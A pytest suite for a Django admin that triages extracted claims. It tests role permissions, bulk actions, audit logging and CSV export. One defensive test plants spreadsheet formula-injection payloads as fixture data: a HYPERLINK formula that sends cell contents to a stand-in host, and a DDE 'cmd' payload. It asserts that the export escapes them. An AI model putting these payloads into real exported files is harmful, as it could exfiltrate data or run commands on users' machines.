"""Admin triage: every action, what it refuses, who may use it, and the audit rows it writes."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from claims.admin import claims as claims_admin
from claims.models import Article, AuditEvent, Claim
from tests.claims.admin._helpers import ARTICLES, CLAIMS, VERDICTS, act, audit, claim_form, said
from tests.factories import (
    ArticleFactory,
    ClaimFactory,
    ReviewerFactory,
    UserFactory,
    VerdictFactory,
)

pytestmark = pytest.mark.django_db
# --- Who may see and do what -----------------------------------------------------------------


@pytest.mark.parametrize("url", [CLAIMS, ARTICLES, VERDICTS])
def test_reviewers_and_editors_see_the_lists_and_other_staff_do_not(client, url, editor):
    ClaimFactory()
    for user, status in [
        (editor, 200),
        (ReviewerFactory(is_staff=True), 200),
        (UserFactory(is_staff=True), 403),
    ]:
        client.force_login(user)
        assert client.get(url).status_code == status, user


def test_a_reviewer_is_offered_only_the_export_action(reviewer_client):
    ClaimFactory()
    response = reviewer_client.get(CLAIMS)
    actions = [name for name, _ in response.context["action_form"].fields["action"].choices]
    assert actions == ["", "export_csv"]


def test_an_editor_is_offered_every_triage_action_but_no_delete(editor_client):
    ClaimFactory()
    response = editor_client.get(CLAIMS)
    actions = {name for name, _ in response.context["action_form"].fields["action"].choices}
    assert actions == {
        "", "assign", "release_leases", "dismiss", "mark_duplicate", "raise_priority",
        "lower_priority", "export_csv",
    }  # fmt: skip


@pytest.mark.parametrize(
    "action", ["assign", "release_leases", "dismiss", "mark_duplicate", "raise_priority"]
)
def test_a_reviewer_posting_a_triage_action_changes_nothing(reviewer_client, action, reviewer):
    claim = ClaimFactory(assignee=reviewer, lease_expires_at=timezone.now() + timedelta(hours=1))
    other = ClaimFactory()
    response = act(
        reviewer_client, action, [claim], apply="1", assignee=reviewer.pk, original=other.pk
    )
    assert response.status_code == 302
    assert "No action selected" in said(response)
    claim.refresh_from_db()
    assert claim.status == Claim.Status.NEW and claim.assignee == reviewer and claim.priority == 0
    assert not AuditEvent.objects.exists()


def test_a_reviewer_cannot_edit_a_claim_in_the_admin(reviewer_client, reviewer):
    claim = ClaimFactory()
    url = f"{CLAIMS}{claim.pk}/change/"
    page = reviewer_client.get(url)
    assert page.status_code == 200 and page.context["has_change_permission"] is False
    response = reviewer_client.post(url, claim_form(assignee=reviewer.pk, priority=50))
    assert response.status_code == 403
    claim.refresh_from_db()
    assert claim.assignee is None and claim.priority == 0


def test_nobody_adds_or_deletes_claims_in_the_admin(superuser_client):
    claim = ClaimFactory()
    assert superuser_client.get(f"{CLAIMS}add/").status_code == 403
    assert superuser_client.post(f"{CLAIMS}{claim.pk}/delete/", {"post": "yes"}).status_code == 403
    assert Claim.objects.filter(pk=claim.pk).exists()


def test_only_superusers_manage_users_and_tokens(editor_client, editor, staff_reviewer):
    assert editor_client.get("/admin/auth/user/add/").status_code == 403
    change = editor_client.post(
        f"/admin/auth/user/{staff_reviewer.pk}/change/",
        {"username": "renamed", "is_superuser": "on"},
    )
    assert change.status_code == 403
    staff_reviewer.refresh_from_db()
    assert staff_reviewer.username != "renamed" and not staff_reviewer.is_superuser
    assert editor_client.get("/admin/auth/group/").status_code == 403
    assert editor_client.get("/admin/claims/apitoken/").status_code == 403
    assert not editor.has_perm("claims.add_apitoken")


def test_editors_look_up_only_reviewers_and_editors(editor_client, staff_reviewer):
    UserFactory(username="partner-feed")
    response = editor_client.get(
        "/admin/autocomplete/",
        {"app_label": "claims", "model_name": "claim", "field_name": "assignee", "term": ""},
    )
    assert response.status_code == 200
    names = {row["text"] for row in response.json()["results"]}
    assert staff_reviewer.username in names and "partner-feed" not in names


def test_reviewers_cannot_look_users_up(reviewer_client):
    response = reviewer_client.get(
        "/admin/autocomplete/",
        {"app_label": "claims", "model_name": "claim", "field_name": "assignee", "term": ""},
    )
    assert response.status_code == 403


# --- Claim actions ---------------------------------------------------------------------------


def test_assigning_asks_who_then_assigns_and_audits(editor_client, editor, staff_reviewer):
    claims = ClaimFactory.create_batch(3)
    first = act(editor_client, "assign", claims)
    assert first.status_code == 200
    assert "Assign 3 claim(s)" in first.content.decode()
    assert not audit("assign").exists()

    second = act(editor_client, "assign", claims, apply="1", assignee=staff_reviewer.pk)
    assert second.status_code == 302
    assert "3 of 3 claim(s) assigned" in said(second)
    assert Claim.objects.filter(assignee=staff_reviewer, lease_expires_at__isnull=True).count() == 3
    assert audit("assign", actor=editor).count() == 3


def test_assigning_leaves_judged_claims_alone_and_says_so(editor_client, staff_reviewer):
    open_claim = ClaimFactory()
    judged = VerdictFactory(claim__status=Claim.Status.VERDICT).claim
    response = act(
        editor_client, "assign", [open_claim, judged], apply="1", assignee=staff_reviewer.pk
    )
    assert "1 of 2 claim(s) assigned" in said(response)
    assert "1 left as they were" in said(response)
    judged.refresh_from_db()
    assert judged.assignee is None
    assert not audit("assign", claim=judged).exists()


def test_assigning_to_someone_who_is_not_a_reviewer_is_refused(editor_client):
    claim = ClaimFactory()
    outsider = UserFactory()
    response = act(editor_client, "assign", [claim], apply="1", assignee=outsider.pk)
    assert response.status_code == 200  # the form again, with the error
    assert response.context["form"].errors["assignee"]
    claim.refresh_from_db()
    assert claim.assignee is None and not AuditEvent.objects.exists()


def test_dismissing_in_bulk_keeps_judged_claims(editor_client, editor):
    noise = ClaimFactory.create_batch(2)
    judged = VerdictFactory(claim__status=Claim.Status.VERDICT).claim
    response = act(editor_client, "dismiss", [*noise, judged])
    assert "2 of 3 claim(s) dismissed" in said(response)
    assert Claim.objects.filter(status=Claim.Status.DISMISSED).count() == 2
    judged.refresh_from_db()
    assert judged.status == Claim.Status.VERDICT
    assert audit("dismiss", actor=editor).count() == 2


def test_marking_duplicates_asks_for_the_original(editor_client, editor):
    original = ClaimFactory()
    copies = ClaimFactory.create_batch(2)
    first = act(editor_client, "mark_duplicate", copies)
    assert first.status_code == 200 and "original" in first.context["form"].fields

    response = act(editor_client, "mark_duplicate", copies, apply="1", original=original.pk)
    assert "2 of 2 claim(s) marked duplicates of claim #" in said(response)
    for copy in copies:
        copy.refresh_from_db()
        assert copy.duplicate_of == original and copy.status == Claim.Status.DUPLICATE
    assert audit("duplicate", actor=editor).count() == 2


def test_a_claim_cannot_be_marked_a_duplicate_of_itself(editor_client):
    claim = ClaimFactory()
    response = act(editor_client, "mark_duplicate", [claim], apply="1", original=claim.pk)
    assert response.status_code == 200
    assert "itself" in str(response.context["form"].errors["original"])
    claim.refresh_from_db()
    assert claim.status == Claim.Status.NEW and not AuditEvent.objects.exists()


def test_priority_goes_up_and_down_in_steps_and_is_audited(editor_client, editor):
    claim = ClaimFactory()
    act(editor_client, "raise_priority", [claim])
    act(editor_client, "raise_priority", [claim])
    act(editor_client, "lower_priority", [claim])
    claim.refresh_from_db()
    assert claim.priority == claims_admin.PRIORITY_STEP
    assert audit("priority", actor=editor, claim=claim).count() == 3


def test_releasing_leases_frees_claims_whoever_holds_them(editor_client, editor, reviewer):
    held = ClaimFactory(
        assignee=reviewer,
        status=Claim.Status.IN_REVIEW,
        lease_expires_at=timezone.now() + timedelta(minutes=10),
    )
    free = ClaimFactory()
    response = act(editor_client, "release_leases", [held, free])
    assert "1 of 2 claim(s) released" in said(response)
    held.refresh_from_db()
    assert held.assignee is None and held.status == Claim.Status.NEW
    assert audit("release", actor=editor, claim=held).count() == 1


def test_exporting_streams_the_selection_as_csv(reviewer_client):
    claims = ClaimFactory.create_batch(2)
    ClaimFactory()  # not selected
    response = act(reviewer_client, "export_csv", claims)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["id", "article_id", "article__title"]
    assert sorted(int(row[0]) for row in rows[1:]) == sorted(c.pk for c in claims)


def test_the_csv_export_guards_every_text_cell_against_spreadsheet_formulas(reviewer_client):
    article = ArticleFactory(
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")', source="+cmd|' /C calc'!A0"
    )
    claim = ClaimFactory(article=article, text="@SUM(1+1)", sentence="-2+3", speaker="=1+1")
    response = act(reviewer_client, "export_csv", [claim])
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = dict(zip(header, row, strict=True))
    for column in ("article__title", "article__source", "text", "sentence", "speaker"):
        assert cells[column].startswith("'"), column
    assert cells["article__title"] == "'" + article.title
    assert cells["id"] == str(claim.pk)


def test_a_selection_too_large_for_one_action_is_refused(editor_client, monkeypatch):
    monkeypatch.setattr("claims.admin.bulk.MAX_BULK_CLAIMS", 2)
    ClaimFactory.create_batch(3)
    response = editor_client.post(
        CLAIMS, {"action": "dismiss", "select_across": "1", "_selected_action": ["1"]}
    )
    assert "narrow the list" in said(response)
    assert not Claim.objects.filter(status=Claim.Status.DISMISSED).exists()


def test_select_all_across_a_filtered_list_acts_on_the_filter_only(editor_client):
    article = ArticleFactory(status=Article.Status.SPLIT)
    mine = ClaimFactory.create_batch(3, article=article)
    ClaimFactory()  # another article
    editor_client.post(
        f"{CLAIMS}?article={article.pk}",
        {"action": "dismiss", "select_across": "1", "_selected_action": [mine[0].pk]},
    )
    assert set(Claim.objects.filter(status=Claim.Status.DISMISSED)) == set(mine)


# --- Editing a claim -------------------------------------------------------------------------


def test_an_editor_edits_assignee_and_priority_through_the_services(
    editor_client, editor, staff_reviewer
):
    claim = ClaimFactory()
    url = f"{CLAIMS}{claim.pk}/change/"
    response = editor_client.post(
        url, claim_form(assignee=staff_reviewer.pk, priority=30, text="tampered", score="0.01")
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    claim.refresh_from_db()
    assert claim.assignee == staff_reviewer and claim.priority == 30
    assert claim.text != "tampered" and claim.score == 0.8  # extractor output is read-only
    assert audit("assign", actor=editor, claim=claim).count() == 1
    assert audit("priority", actor=editor, claim=claim).get().data == {"before": 0, "after": 30}


def test_saving_a_claim_unchanged_writes_no_audit_row(editor_client):
    claim = ClaimFactory()
    editor_client.post(f"{CLAIMS}{claim.pk}/change/", claim_form(assignee="", priority=0))
    assert not AuditEvent.objects.exists()


def test_a_judged_claim_cannot_be_assigned_on_its_page(editor_client, staff_reviewer):
    claim = VerdictFactory(claim__status=Claim.Status.VERDICT).claim
    response = editor_client.post(
        f"{CLAIMS}{claim.pk}/change/", claim_form(assignee=staff_reviewer.pk, priority=0)
    )
    assert response.status_code == 200
    assert "only open claims" in str(response.context["adminform"].form.errors)
    assert not audit("assign").exists()


def test_priority_is_bounded_on_the_form(editor_client):
    claim = ClaimFactory()
    response = editor_client.post(
        f"{CLAIMS}{claim.pk}/change/", claim_form(assignee="", priority=500)
    )
    assert response.status_code == 200
    claim.refresh_from_db()
    assert claim.priority == 0


# --- History ---------------------------------------------------------------------------------


def test_a_claims_page_shows_its_audit_trail_to_editors(editor_client, editor):
    claim = ClaimFactory()
    act(editor_client, "dismiss", [claim])
    page = editor_client.get(f"{CLAIMS}{claim.pk}/change/").content.decode()
    assert "history (audit trail)" in page.lower()
    assert "Dismissed as not checkable" in page and editor.username in page


def test_history_opens_the_objects_audit_trail(editor_client):
    claim, other = ClaimFactory(), ClaimFactory()
    act(editor_client, "raise_priority", [claim, other])
    response = editor_client.get(f"{CLAIMS}{claim.pk}/history/")
    assert response.status_code == 302
    listing = editor_client.get(response.url)
    assert [e.claim_id for e in listing.context["cl"].result_list] == [claim.pk]


def test_an_article_history_covers_its_claims(editor_client):
    claim = ClaimFactory()
    act(editor_client, "dismiss", [claim])
    response = editor_client.get(f"{ARTICLES}{claim.article_id}/history/")
    listing = editor_client.get(response.url)
    assert [e.action for e in listing.context["cl"].result_list] == ["dismiss"]
